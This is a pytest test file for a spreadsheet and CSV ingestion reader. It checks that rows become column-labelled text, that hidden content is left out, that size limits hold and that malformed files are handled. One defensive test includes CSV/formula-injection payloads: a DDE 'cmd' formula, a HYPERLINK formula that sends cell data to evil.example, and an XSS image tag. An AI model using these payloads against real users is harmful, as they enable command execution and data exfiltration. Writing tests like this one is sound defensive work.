"""Rows of spreadsheets and CSV become pieces, each value beside the name of its column; what is hidden stays hidden."""

import datetime
import json
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook  # type: ignore[import-untyped]

from aisdr.ingest import sheets
from aisdr.ingest.readers.base import Document, NothingToRead, Unreadable
from aisdr.ingest.readers.sheet import shown
from aisdr.ingest.split import MAX_WORDS
from aisdr.ingest.tables import pack_rows, table_blocks, table_text
from tests.ingest.material import write
from tests.ingest.readers.conftest import Read


def html_of(document: Document) -> str:
    content = document.publications[0].content
    assert isinstance(content, bytes)
    return content.decode()


# Rows to text


def test_every_value_stands_beside_the_name_of_its_column() -> None:
    rows = [["Plan", "Price", ""], ["Team", "49 €", "new"], ["Chain", "", ""], ["", "", ""]]

    assert table_text(rows) == "Plan: Team; Price: 49 €; new.\nPlan: Chain."


def test_a_table_that_fits_stays_whole_and_a_longer_one_is_cut_between_rows() -> None:
    header, row = ["Name", "Text"], ["x", "word " * 50]

    assert [block.whole for block in table_blocks([header, row, row])] == [True]
    blocks = table_blocks([header, *[row] * 9])
    assert len(blocks) == 3
    assert all(line.startswith("Name: x; Text: word") for block in blocks for line in block.text.splitlines())


def test_a_row_longer_than_a_piece_is_cut_between_cells_and_keeps_its_name() -> None:
    row = ["Till", *(f"{column} " * 70 for column in "abcd")]

    parts = [text for _, text in pack_rows(["Name", "A", "B", "C", "D"], [(2, row)])]

    assert len(parts) == 2
    assert all(part.startswith("Name: Till; ") and len(part.split()) <= MAX_WORDS for part in parts)
    assert [part.count(f"{column}: ") for column in "ABCD" for part in parts] == [1, 0, 1, 0, 0, 1, 0, 1]


def test_a_cell_longer_than_a_piece_is_cut_and_each_part_names_its_column() -> None:
    text = " ".join(f"Sentence number {number} has seven words exactly." for number in range(60))

    parts = [text for _, text in pack_rows(["Name", "Terms"], [(2, ["Till", text])])]

    assert len(parts) > 2
    assert all(part.startswith("Name: Till; Terms: Sentence") and len(part.split()) <= MAX_WORDS for part in parts)
    assert all(f"number {number} has" in " ".join(parts) for number in range(60))


# Spreadsheets


@pytest.fixture
def prices(tmp_path: Path) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.title = "Prices"
    for row in (
        ["Price list 2026"],
        [],
        ["Plan", "Fee", "Share", "Margin", "Since", "Open"],
        ["Team", 29, 0.012, 0.4, datetime.date(2026, 3, 1), True],
        ["Chain", 99.5, 0.009, 0.5, datetime.datetime(2026, 3, 1, 9, 30), False],
        ["Secret", 1],
        ["Sum", "=B4+B5"],
    ):
        sheet.append(row)
    sheet["B4"].number_format = '#,##0.00 "€"'
    sheet["B5"].number_format = "#,##0.00 [$€-407]"
    sheet["C4"].number_format = "0.0%"
    sheet.column_dimensions["D"].hidden = True
    sheet.row_dimensions[6].hidden = True
    book.create_sheet("Internal").append(["Bonus", "Secret"])
    book["Internal"].sheet_state = "veryHidden"
    book.create_sheet("Empty")
    stock = book.create_sheet("Stock & more")
    stock.append(["Article", "Left"])
    stock.append(["Till", 3])
    book.save(tmp_path / "prices.xlsx")
    return tmp_path / "prices.xlsx"


def test_rows_are_read_with_the_names_of_their_columns_as_they_are_shown(prices: Path, read: Read) -> None:
    document = read(prices)

    assert [(piece.locator.heading, piece.locator.row, piece.text) for piece in document.pieces] == [
        ("Prices", 1, "Price list 2026"),
        (
            "Prices",
            4,
            "Plan: Team; Fee: 29.00 €; Share: 1.2 %; Since: 2026-03-01; Open: yes.\n"
            "Plan: Chain; Fee: 99.50 €; Share: 0.009; Since: 2026-03-01 09:30; Open: no.\nPlan: Sum.",
        ),
        ("Stock & more", 2, "Article: Till; Left: 3."),
    ]


def test_what_is_hidden_is_neither_read_nor_published_and_is_counted(prices: Path, read: Read) -> None:
    document = read(prices)

    assert document.remarks == (
        "what is hidden was left out: 1 sheet, 1 column, 1 row",
        "1 formula has no result in the file: open it in a spreadsheet program and save it",
    )
    assert not any(word in html_of(document) + str(document.pieces) for word in ("Secret", "Bonus", "0.4"))


def test_each_piece_opens_the_page_at_its_row(prices: Path, read: Read) -> None:
    document = read(prices)

    assert [piece.url for piece in document.pieces] == [
        "/media/acme/prices.xlsx.html#prices-row-1",
        "/media/acme/prices.xlsx.html#prices-row-4",
        "/media/acme/prices.xlsx.html#stock-more-row-2",
    ]
    assert all(f'id="{piece.url.split("#")[1]}"' in html_of(document) for piece in document.pieces)
    assert [each.path for each in document.publications] == ["prices.xlsx.html"]


@pytest.mark.parametrize(
    ("value", "number_format", "text"),
    [
        (0.19, "0%", "19 %"),
        (49, "$#,##0.00", "$49.00"),
        (49, "[$CHF] #,##0", "49 CHF"),
        (3.5, '0.0" kg"', "3.5 kg"),
        (0.1 + 0.2, "General", "0.3"),
        (12, "[$-409]0", "12"),
        (float("inf"), "General", "inf"),
        ("#REF!", "General", ""),
        (datetime.time(9, 30), "h:mm", "09:30"),
    ],
)
def test_a_value_reads_as_it_is_shown(value: object, number_format: str, text: str) -> None:
    assert shown(value, number_format) == text


def made(path: Path, rows: Iterator[list[object]]) -> Path:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def read_alone(path: Path) -> tuple[int, list[str], str]:
    """The megabytes that a process needs which does nothing but read a file, its remarks, and its last piece."""
    program = (
        "import json, re, sys; from pathlib import Path; from aisdr.ingest.kinds import reader_for;"
        "from aisdr.ingest.labels import Labels; from aisdr.ingest.readers.base import SourceFile;"
        "path = Path(sys.argv[1]);"
        "document = reader_for(path).read(SourceFile(path.parent, path, '/media/acme', Labels()));"
        # Not `ru_maxrss`, which begins with what the process weighed that started this one.
        "peak = re.search(r'VmHWM:\\s+(\\d+) kB', Path('/proc/self/status').read_text())[1];"
        "print(json.dumps([int(peak), document.remarks, document.pieces[-1].text]))"
    )
    told = subprocess.run([sys.executable, "-c", program, str(path)], capture_output=True, check=True, text=True)
    peak, remarks, last = json.loads(told.stdout)
    return peak // 1024, remarks, last


@pytest.mark.slow
def test_a_sheet_of_100_000_cells_is_read_whole(tmp_path: Path, read: Read) -> None:
    path = made(
        tmp_path / "large.xlsx", (["Name", *"abcdefghi"] if not n else [f"row {n}", *range(9)] for n in range(10_000))
    )

    document = read(path)

    assert document.remarks == ()
    assert "Name: row 9999; " in document.pieces[-1].text
    assert sum(piece.text.count("Name: row ") for piece in document.pieces) == 9_999


@pytest.mark.slow
def test_a_sheet_of_a_million_cells_is_read_as_far_as_there_is_room_and_the_rest_is_named(tmp_path: Path) -> None:
    path = made(
        tmp_path / "huge.xlsx", (["Name", *"abcdefghi"] if not n else [f"row {n}", *range(9)] for n in range(100_000))
    )

    megabytes, remarks, last = read_alone(path)

    assert remarks == [
        "80,000 rows were left out: of a file at most 20,000 rows and 400,000 cells are read; split it into several"
    ]
    assert "Name: row 19999; " in last
    assert megabytes < 400


def test_a_table_wider_than_any_is_cut_with_a_remark(tmp_path: Path, read: Read) -> None:
    document = read(made(tmp_path / "wide.xlsx", iter([[f"c{n}" for n in range(300)], [*range(300)]])))

    assert document.remarks == ("in 2 rows what stands behind column 256 was left out",)
    assert "c255: 255" in document.pieces[-1].text


def test_rows_are_left_out_by_cells_as_well(tmp_path: Path, read: Read, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MAX_CELLS", 10)

    document = read(made(tmp_path / "cells.xlsx", ([*"ab"] if not n else [1, 2] for n in range(10))))

    assert document.remarks[0].startswith("5 rows were left out")


def rewritten(path: Path, part: str, old: str, new: str) -> Path:
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert old.encode() in parts[part]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content.replace(old.encode(), new.encode()) if name == part else content)
    return path


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('<row r="2"', '<row r="2000000000"'),
        ('<row r="2"', '<row r="-5"'),
        ('<row r="2"', '<row r="x"'),
        ('<c r="A2"', '<c r="ZZZZZ2"'),
        ("</sheetData>", ""),
        ("<sheetData>", '<cols><col min="1" max="99999999999" hidden="1"/></cols><sheetData>'),
        ("<sheetData>", "<sheetData>\x01"),
    ],
)
def test_a_sheet_that_lies_about_its_places_harms_nobody(tmp_path: Path, read: Read, old: str, new: str) -> None:
    path = made(tmp_path / "lies.xlsx", iter([["a", "b"], [1, 2]]))
    rewritten(path, "xl/worksheets/sheet1.xml", old, new)

    try:
        document = read(path)
    except (Unreadable, NothingToRead):
        return
    assert len(document.pieces) <= 2


def test_a_sheet_that_claims_to_be_as_large_as_any_is_read_as_it_is(tmp_path: Path, read: Read) -> None:
    path = made(tmp_path / "claims.xlsx", iter([["a", "b"], [1, 2]]))
    rewritten(path, "xl/worksheets/sheet1.xml", "<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')

    assert [piece.text for piece in read(path).pieces] == ["a: 1; b: 2."]


# CSV


@pytest.mark.parametrize(
    "text",
    [
        "Plan,Price\nTeam,49\nChain,99\n",
        "Plan;Price\nTeam;49\nChain;99\n",
        "Plan\tPrice\nTeam\t49\nChain\t99\n",
        "sep=|\nPlan|Price\nTeam|49\nChain|99\n",
        '"Plan";"Price"\r\n"Team";"49"\r\n\r\n"Chain";"99"',
    ],
)
def test_whatever_separates_the_columns_is_found_out(tmp_path: Path, read: Read, text: str) -> None:
    document = read(write(tmp_path / "plans.csv", text))

    assert [piece.text for piece in document.pieces] == ["Plan: Team; Price: 49.\nPlan: Chain; Price: 99."]


def test_rows_are_counted_as_a_spreadsheet_does(tmp_path: Path, read: Read) -> None:
    text = 'Name,Text\nA,"two\nlines"\nB,' + "word " * 175 + "\n"

    pieces = read(write(tmp_path / "a.csv", text)).pieces

    assert [(piece.locator.row, piece.url) for piece in pieces] == [
        (2, "/media/acme/a.csv.html#row-2"),
        (3, "/media/acme/a.csv.html#row-3"),
    ]
    assert pieces[0].text == "Name: A; Text: two lines."


def test_a_cell_that_would_be_a_formula_is_only_text(tmp_path: Path, read: Read) -> None:
    cells = [
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "+1+1",
        "@SUM(1)",
        "<img src=x onerror=x()>",
    ]
    book = Workbook()
    for number, cell in enumerate(["Text", *cells], 1):
        book.active.cell(number, 1).value = cell
        book.active.cell(number, 1).data_type = "s"
    book.save(tmp_path / "a.xlsx")
    quoted = "\n".join('"' + cell.replace('"', '""') + '"' for cell in ["Text", *cells])

    for path in (tmp_path / "a.xlsx", write(tmp_path / "a.csv", quoted)):
        document = read(path)
        assert document.pieces[0].text == "\n".join(f"Text: {cell}." for cell in cells)
        assert [each.path for each in document.publications] == [
            f"{path.name}.html"
        ]  # nothing a spreadsheet would open
        assert "<img" not in html_of(document)


@pytest.mark.parametrize("text", ["a,b\n" + '"' + "x" * 200_000, 'a,b\n"' + "open," * 100_000])
def test_a_quotation_mark_that_is_never_closed_is_named(tmp_path: Path, read: Read, text: str) -> None:
    with pytest.raises(Unreadable, match="quotation mark"):
        read(write(tmp_path / "a.csv", text))


@pytest.mark.parametrize("text", ["", "\n\n", ",,\n,,\n"])
def test_an_empty_table_holds_nothing(tmp_path: Path, read: Read, text: str) -> None:
    with pytest.raises(NothingToRead):
        read(write(tmp_path / "a.csv", text))


def test_hidden_characters_are_taken_out_of_cells(tmp_path: Path, read: Read) -> None:
    document = read(write(tmp_path / "a.csv", "Pl\u200ban,Price\nTe\u00adam,4\u202e9\n"))

    assert document.pieces[0].text == "Plan: Team; Price: 49."
    assert document.remarks == ("3 hidden characters were taken out",)


def test_a_table_of_the_web_is_cited_where_it_stands(tmp_path: Path, read: Read) -> None:
    document = read(write(tmp_path / "a.csv", "Plan,Price\nTeam,49\n"), address="https://shop.example/a.csv")

    assert (document.pieces[0].url, document.publications) == ("https://shop.example/a.csv", ())
